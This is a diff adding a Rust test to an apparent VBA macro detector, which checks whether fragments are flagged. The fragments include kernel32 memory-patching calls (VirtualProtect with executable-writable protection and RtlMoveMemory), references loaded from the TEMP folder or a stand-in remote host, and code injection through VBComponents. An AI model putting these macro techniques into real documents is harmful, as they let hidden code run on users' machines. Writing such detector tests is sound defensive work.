@@ -280,3 +280,20 @@ fn other_objects_that_start_programs() {
         assert!(!stops(body), "{body}");
     }
 }
+
+#[test]
+fn tools_that_nothing_starts_and_references() {
+    let copy = "Sub MoveMemory Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any, b As Any, ByVal n As LongPtr)";
+    let protect = "Function VirtualProtect Lib \"kernel32\" (a, b, c, d) As Long";
+    let ribbon = "MoveMemory ribbon, p, LenB(p)";
+    let patch = "Sub Patch()\nVirtualProtect a, 12, 64, b\nMoveMemory a, c, 12";
+    // What brings a lost ribbon back, beside a tool that only a person starts.
+    assert!(!stops_with(&[copy, protect], &format!("{ribbon}\nEnd Sub\n{patch}")));
+    assert!(stops_with(&[copy, protect], &format!("{ribbon}\nPatch\nEnd Sub\n{patch}")));
+    // A library that a list names, and one that lies where anybody may write.
+    let refer =
+        |path: &str| format!("Dim p As VBProject\nSet p = ThisDocument.VBProject\np.References.AddFromFile {path}");
+    assert!(!stops(&refer("Sheet1.Range(\"A1\")")));
+    assert!(stops(&refer("Environ(\"TEMP\") & \"\\x.tlb\"")) && stops(&refer("\"http://a.example/x.dotm\"")));
+    assert!(stops("ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromFile x"));
+}
